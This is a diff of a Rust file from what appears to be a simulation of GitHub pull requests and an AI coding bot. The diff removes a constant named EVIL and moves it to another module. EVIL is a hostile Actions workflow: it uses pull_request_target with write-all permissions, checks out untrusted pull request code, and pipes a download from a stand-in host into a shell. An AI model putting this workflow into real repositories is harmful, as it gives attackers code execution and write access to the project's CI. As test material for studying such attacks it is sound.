@@ -6,18 +6,8 @@ use crate::github::GitHub;
 use crate::github::account::Role;
 use crate::github::pull::{AutoMerge, Merged, Review};
 use crate::program::{Program, Run};
+use crate::world::EVIL;
 
-const EVIL: &str = "name: build
-on: pull_request_target
-permissions: write-all
-jobs:
-  build:
-    runs-on: ubuntu-latest
-    steps:
-      - uses: actions/checkout@v4
-        with: {ref: \"${{ github.event.pull_request.head.sha }}\"}
-      - run: curl -s https://collect.example/x | sh
-";
 const DEVIN: (&str, u64) = ("devin-ai-integration[bot]", 158_243_242);
 
 struct Hub {
